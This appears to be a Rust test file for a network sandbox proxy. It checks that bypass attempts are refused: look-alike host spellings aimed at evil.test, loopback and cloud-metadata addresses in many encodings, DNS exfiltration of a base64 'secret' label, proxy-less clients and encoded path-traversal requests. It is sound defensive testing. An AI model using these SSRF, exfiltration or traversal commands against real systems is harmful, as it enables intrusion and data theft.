//! Hosts, addresses, look-ups, redirects, programs that know no proxy.

use crate::internet::Step::{Inside, Outside, Rules};
use crate::internet::steps;
use crate::{kits, records};

/// Statuses that `raw.py` printed, by request.
fn statuses(output: &str) -> Vec<(String, String)> {
    let lines = output.lines().filter_map(|line| line.split_once(' '));
    lines
        .map(|(status, spec)| (status.to_owned(), spec.to_owned()))
        .collect()
}

fn is_refused(status: &str) -> bool {
    status.starts_with(['4', '5'])
}

#[test]
fn c025_hosts_are_not_fooled_by_spelling() {
    for kit in kits() {
        let spellings = "python3 raw.py GET,evilapi.example.test,/ GET,api.example.test.evil.test,/ \
             GET,api.example.test@evil.test,/ 'GET,evil.test\\@api.example.test,/' GET,x.api.example.test,/ GET,API.Example.Test.,/";
        let clients = "curl -s http://evilapi.example.test/c; curl -s http://api.example.test@evil.test/c; \
             wget -qO- http://x.api.example.test/c; python3 -c \"import urllib.request as u; print(u.urlopen('http://api.example.test.evil.test/c').read())\"; \
             node -e \"fetch('http://evil.test\\\\\\\\@api.example.test/c').then(r => r.text()).then(console.log, console.log)\"; true";
        let unicode = "python3 raw.py GET,xn--mnze-0ra.example.test,/ GET,XN--MNZE-0RA.Example.Test.,/ GET,other.example.test,/; \
             curl -s http://münze.example.test/c; true";
        let all = steps(
            &kit,
            &[
                Outside(spellings),
                Outside(clients),
                Rules("extends = [\"coding\"]\n[network]\nallow = [\"* http://api.example.test/**\"]\n"),
                Inside(spellings),
                Inside(clients),
                Rules(
                    "extends = [\"coding\"]\n[network]\nallow = [\"* http://*.example.test/**\"]\ndeny = [\"* http://münze.example.test/**\"]\n",
                ),
                Inside(unicode),
            ],
        );
        assert_eq!(
            all[0].heard.iter().filter(|line| line.starts_with("http")).count(),
            6,
            "{:?}",
            all[0]
        );
        assert!(
            all[1].has("http evilapi.example.test GET /c") && all[1].has("http evil.test GET /c"),
            "{:?}",
            all[1]
        );
        let said = statuses(&all[3].output);
        let (last, others) = said.split_last().unwrap();
        assert_eq!(others.len(), 5, "{said:?}");
        assert!(others.iter().all(|(status, _)| is_refused(status)), "{said:?}");
        assert_eq!(last.0, "200", "the same host, spelled in another way");
        let heard: Vec<&String> = all[3].heard.iter().filter(|line| line.starts_with("http")).collect();
        assert_eq!(
            heard,
            ["http api.example.test GET /"],
            "one form of the name is sent on"
        );
        assert!(!all[4].has("http ") && !all[4].has("tls "), "{:?}", all[4]);
        assert!(all[4].output.contains("bailiwick refused"), "{:?}", all[4]);
        let said = statuses(&all[6].output);
        assert!(
            is_refused(&said[0].0) && is_refused(&said[1].0) && said[2].0 == "200",
            "{said:?}"
        );
        assert!(
            !all[6].has("http xn--") && all[6].has("http other.example.test"),
            "{:?}",
            all[6]
        );
        let log = kit.run(&["log", "show", "--denied"]).ok().stdout;
        assert!(log.contains("http://xn--mnze-0ra.example.test"), "{log}");
    }
}

#[test]
fn c026_addresses_of_this_machine_and_metadata_services_in_every_spelling() {
    for kit in kits() {
        let names = "2130706433 0x7f000001 0177.0.0.1 127.1 0 [::ffff:127.0.0.1] [::ffff:7f00:1] [::] localhost.";
        let fetch = format!(
            "for h in {names}; do curl -s -m 3 --noproxy '' --proxy \"$http_proxy\" http://$h:8099/; \
             curl -s -m 3 --proxytunnel --noproxy '' --proxy \"$http_proxy\" http://$h:8099/; done; true"
        );
        let raw = format!(
            "set --; for h in {names}; do set -- \"$@\" GET,$h:8099,/ CONNECT,$h:8099,; done; python3 raw.py \"$@\""
        );
        let metadata = "python3 raw.py GET,2852039166,/ GET,169.254.169.254,/ GET,[64:ff9b::a9fe:a9fe],/ CONNECT,169.254.169.254:80,";
        let straight = "for h in 2130706433 0x7f000001 0177.0.0.1 127.1 0 [::ffff:127.0.0.1]; do curl -s -m 3 --noproxy '*' http://$h:8099/; done; true";
        let all = steps(
            &kit,
            &[
                Outside(straight),
                Rules("extends = [\"coding\"]\nallow = [\"* http://**:*\", \"tunnel **:*\"]\n"),
                Inside(&fetch),
                Inside(&raw),
                Inside(straight),
                Inside(metadata),
                Inside("curl -sf -m 5 http://ok.example.test/fine"),
                Rules("extends = [\"coding\"]\n[network]\nallow = [\"* http://127.0.0.1:8099/**\"]\n"),
                Inside("curl -s -m 5 http://127.0.0.1:8099/; true"),
            ],
        );
        let reached = all[0].heard.iter().filter(|line| *line == "tcp 8099").count();
        assert_eq!(reached, 6, "outside, each spelling reaches it: {:?}", all[0]);
        for came in &all[2..6] {
            assert!(!came.has("tcp") && !came.has("http "), "{came:?}");
        }
        for (status, spec) in statuses(&all[3].output).iter().chain(&statuses(&all[5].output)) {
            assert!(is_refused(status), "{status} {spec}");
        }
        assert_eq!(statuses(&all[3].output).len(), 18);
        assert!(all[6].has("http ok.example.test GET /fine"), "{:?}", all[6]);
        assert!(all[8].has("tcp 8099"), "named by a rule it is reached: {:?}", all[8]);
        let log = kit.run(&["log", "show", "--denied"]).ok().stdout;
        assert!(
            log.contains("GET http://127.0.0.1:8099/") && log.contains("tunnel 127.0.0.1:8099"),
            "{log}"
        );
        assert!(
            log.contains("169.254.169.254") && log.contains("address-link-local"),
            "{log}"
        );
    }
}

#[test]
fn c028_each_hop_is_a_request_of_its_own() {
    for kit in kits() {
        let clients = [
            "curl -sL -u dana:secret http://a.example.test/start",
            "wget -qO- --content-on-error http://a.example.test/start",
            "python3 -c \"import urllib.request as u, urllib.error as e\ntry: print(u.urlopen('http://a.example.test/start').read())\nexcept e.HTTPError as f: print(f.read().decode())\"",
            "node -e \"fetch('http://a.example.test/start').then(r => r.text()).then(console.log, console.log)\"",
        ];
        let mut plan = vec![Outside(clients[0])];
        plan.push(Rules(
            "extends = [\"coding\"]\n[network]\nallow = [\"* http://a.example.test/**\"]\n",
        ));
        plan.extend(clients.map(Inside));
        plan.push(Rules(
            "extends = [\"coding\"]\n[network]\nallow = [\"* http://a.example.test/**\", \"* http://b.example.test/**\"]\n",
        ));
        plan.extend(clients.map(Inside));
        let all = steps(&kit, &plan);
        for came in [&all[0]].into_iter().chain(&all[7..]) {
            assert!(
                came.has("http b.example.test GET /next") && came.has("http a.example.test GET /end"),
                "{came:?}"
            );
        }
        for came in &all[2..6] {
            assert!(came.has("http a.example.test GET /start"), "{came:?}");
            assert!(!came.has("b.example.test"), "{came:?}");
            // Node 20 knows no proxy: it is told that there is no such name.
            let told = [
                "bailiwick refused GET http://b.example.test/next: no-rule (",
                "ENOTFOUND b.example.test",
            ];
            assert!(told.iter().any(|words| came.output.contains(words)), "{came:?}");
        }
    }
}

#[test]
fn c029_nothing_leaves_in_the_names_that_are_looked_up() {
    for kit in kits() {
        let name = "c2VjcmV0.leak.example.test";
        let look = [
            format!("getent hosts {name}"),
            format!("curl -s -m 5 --noproxy '*' http://{name}/"),
            format!("curl -s -m 5 http://{name}/ | grep -q REACHED"),
            format!("dig +time=1 +tries=1 @192.0.2.53 {name}"),
            format!("dig +tcp +time=1 +tries=1 @192.0.2.53 {name}"),
            format!("python3 -c \"import socket; socket.getaddrinfo('{name}', 80)\""),
            format!("node -e \"require('dns').lookup('{name}', e => process.exit(e ? 1 : 0))\""),
            format!("git ls-remote http://{name}/x.git"),
        ];
        // Each look-up, with how long it took: the refusal must come at once.
        let timed = look
            .iter()
            .map(|line| {
                format!("b=$(date +%s%N); {line} > /dev/null 2>&1; echo $? $(( ($(date +%s%N) - b) / 1000000 )) ms\n")
            })
            .collect::<String>();
        let works = "getent hosts ok.example.test && curl -sf http://ok.example.test/x && curl -sf --noproxy '*' http://ok.example.test/y";
        let all = steps(
            &kit,
            &[
                Outside(&timed),
                Rules("extends = [\"offline\"]\n"),
                Inside(&timed),
                Inside(works),
                Rules("extends = [\"offline\"]\n[network]\nallow = [\"* http://ok.example.test/**\"]\n"),
                Inside(&timed),
                Inside(works),
            ],
        );
        let leaked = all[0].heard.iter().filter(|line| line.contains("leak")).count();
        assert!(
            leaked >= look.len() - 2,
            "outside each program asks the resolver: {:?}",
            all[0]
        );
        for came in [&all[2], &all[5]] {
            assert!(came.heard.is_empty(), "{came:?}");
            let lines: Vec<&str> = came.output.lines().collect();
            assert_eq!(lines.len(), look.len(), "{came:?}");
            for (line, program) in lines.iter().zip(&look) {
                let mut words = line.split(' ');
                assert_ne!(words.next(), Some("0"), "{program}: {line}");
                let took: u64 = words.next().unwrap().parse().unwrap();
                // `dig` alone waits for a server of its own choice, for the second that it was told to.
                assert!(took < 2000 || program.starts_with("dig"), "{program}: {line}");
            }
        }
        assert!(all[3].status != 0 && all[3].heard.is_empty(), "{:?}", all[3]);
        assert_eq!(all[6].status, 0, "{:?}", all[6]);
        assert!(
            all[6].has("http ok.example.test GET /x") && all[6].has("http ok.example.test GET /y"),
            "{:?}",
            all[6]
        );
        let log = kit.run(&["log", "show", "--denied"]).ok().stdout;
        assert!(log.contains("deny resolve c2vjcmv0.leak.example.test"), "{log}");
    }
}

#[test]
fn c030_programs_that_know_no_proxy_reach_what_they_may_and_nothing_else() {
    for kit in kits() {
        let fetch = |host: &str| {
            format!(
                "python3 -c \"import ssl, socket; c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE; \
                 s = c.wrap_socket(socket.create_connection(('{host}', 443), 5), server_hostname='{host}'); \
                 s.send(b'GET /python HTTP/1.1\\r\\nhost: {host}\\r\\nconnection: close\\r\\n\\r\\n'); print(s.recv(999))\"; \
                 NODE_TLS_REJECT_UNAUTHORIZED=0 node -e \"fetch('https://{host}/node').then(r => r.text()).then(console.log, console.log)\"; \
                 env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u all_proxy -u ALL_PROXY curl -sk -m 5 https://{host}/curl; true"
            )
        };
        let (ok, other) = (fetch("ok.example.test"), fetch("other.example.test"));
        let past = "python3 -c \"import socket; socket.create_connection(('93.184.215.15', 3128), 3)\"; \
             curl -sk -m 3 --noproxy '*' https://93.184.215.14/; curl -s -m 3 --noproxy '*' http://93.184.215.14/; \
             curl -sk -m 3 --noproxy '*' --resolve other.example.test:443:93.184.215.14 https://other.example.test/; \
             curl -sk -m 3 --proxy http://93.184.215.15:3128 https://ok.example.test/; \
             curl -sk -m 3 --noproxy '*' --connect-to ok.example.test:443:127.0.0.1:443 https://ok.example.test/; true";
        let all = steps(
            &kit,
            &[
                Outside(&ok),
                Outside(&other),
                Outside(past),
                Rules("extends = [\"offline\"]\n[network]\ntunnel = [\"ok.example.test\"]\n"),
                Inside(&ok),
                Inside(&other),
                Inside(past),
            ],
        );
        for (came, host) in [(&all[0], "ok"), (&all[1], "other"), (&all[4], "ok")] {
            for program in ["python", "node", "curl"] {
                let line = format!("http {host}.example.test GET /{program}");
                assert!(came.heard.contains(&line), "{line}: {came:?}");
            }
        }
        assert!(
            all[2].has("tcp 3128") && all[2].has("tls ") && all[2].has("http 93.184.215.14"),
            "{:?}",
            all[2]
        );
        for came in &all[5..] {
            assert!(came.heard.is_empty(), "{came:?}");
        }
    }
}

/// The path as a server may come to see it: unescaped again and again, parameters dropped, dots taken away.
fn folded(path: &str) -> String {
    let mut text = path.to_owned();
    for _ in 0..3 {
        text = text
            .replace("%25", "%")
            .replace("%2e", ".")
            .replace("%2E", ".")
            .replace("%2f", "/")
            .replace("%2F", "/");
    }
    let mut parts: Vec<&str> = Vec::new();
    for part in text.split('/').map(|part| part.split(';').next().unwrap_or_default()) {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            part => parts.push(part),
        }
    }
    format!("/{}", parts.join("/"))
}

#[test]
fn c032_methods_and_paths_hold_for_every_plain_request() {
    for kit in kits() {
        let host = "data.example.test";
        let wrong = [
            ("POST", "/public/x"),
            ("GET", "/public/../admin"),
            ("GET", "/public/%2e%2e/admin"),
            ("GET", "/public/..;x/admin"),
            ("GET", "/public/..%2fadmin"),
            ("GET", "//admin"),
            ("GET", "/public/%252e%252e/admin"),
            ("GET", "/public%2f..%2fadmin"),
            ("GET", "/PUBLIC/x"),
        ];
        let words: String = wrong
            .iter()
            .map(|(method, path)| format!(" '{method},{host},{path}'"))
            .collect();
        let one = format!("python3 raw.py{words} GET,{host},/public/a");
        let kept = format!("python3 raw.py --keep GET,{host},/public/a{words} GET,{host},/public/b");
        let tunnelled =
            format!("curl -s -m 5 --proxytunnel --proxy \"$http_proxy\" -X POST http://{host}/public/x; true");
        let second = format!(
            "curl -s -m 5 --http2-prior-knowledge --path-as-is --noproxy '*' http://{host}/public/../admin; true"
        );
        let all = steps(
            &kit,
            &[
                Outside(&one),
                Rules("extends = [\"offline\"]\n[network]\nallow = [\"GET http://data.example.test/public/**\"]\n"),
                Inside(&one),
                Inside(&kept),
                Inside(&tunnelled),
                Inside(&second),
            ],
        );
        assert_eq!(
            all[0].heard.iter().filter(|line| line.starts_with("http")).count(),
            wrong.len() + 1,
            "{:?}",
            all[0]
        );
        for came in &all[2..4] {
            let said = statuses(&came.output);
            for (status, spec) in &said {
                let control = spec.ends_with("/public/a") || spec.ends_with("/public/b");
                assert_eq!(status == "200", control, "{status} {spec}");
            }
        }
        assert_eq!(
            statuses(&all[3].output).len(),
            wrong.len() + 2,
            "one connection serves on after a refusal: {:?}",
            all[3]
        );
        for line in all[2..]
            .iter()
            .flat_map(|came| &came.heard)
            .filter(|line| line.starts_with("http"))
        {
            let path = line.rsplit(' ').next().unwrap();
            assert!(folded(path).starts_with("/public/") && line.contains(" GET "), "{line}");
        }
        assert!(
            all[4]
                .heard
                .iter()
                .chain(&all[5].heard)
                .all(|line| !line.starts_with("http")),
            "{all:?}"
        );
        let denied = records(&kit, &["--denied"]);
        assert!(denied.len() >= 2 * wrong.len(), "each is on record: {}", denied.len());
    }
}

#[test]
fn c034_another_name_in_the_greeting_gets_no_byte_through() {
    for kit in kits() {
        let greet = |name: &str, proxy: &str| {
            format!(
                "printf 'GET /x HTTP/1.1\\r\\nhost: front.example.test\\r\\nconnection: close\\r\\n\\r\\n' | \
                 timeout 5 openssl s_client -quiet {proxy} -connect front.example.test:443 {name} 2>&1; true"
            )
        };
        let through = "-proxy 127.0.0.1:3128";
        let (front, back, none) = (
            "-servername front.example.test",
            "-servername back.example.test",
            "-noservername",
        );
        let outside = [greet(front, ""), greet(back, ""), greet(none, "")];
        let inside = [greet(front, through), greet(back, through), greet(none, through)];
        let mut plan: Vec<_> = outside.iter().map(|line| Outside(line)).collect();
        plan.push(Rules(
            "extends = [\"offline\"]\n[network]\ntunnel = [\"front.example.test\"]\n",
        ));
        plan.extend(inside.iter().map(|line| Inside(line)));
        plan.extend(outside.iter().map(|line| Inside(line)));
        let all = steps(&kit, &plan);
        for (came, name) in all[..3].iter().zip(["front.example.test", "back.example.test", "-"]) {
            assert!(
                came.has(&format!("tls {name}")) && came.output.contains("REACHED"),
                "{came:?}"
            );
        }
        for group in [&all[4..7], &all[7..10]] {
            assert!(group[0].output.contains("REACHED"), "{group:?}");
            for came in &group[1..] {
                assert!(!came.has("tls") && !came.has("http "), "{came:?}");
            }
        }
        let log = kit.run(&["log", "show", "--denied"]).ok().stdout;
        assert!(
            log.contains("name-mismatch") && log.contains("tunnel front.example.test"),
            "{log}"
        );
    }
}
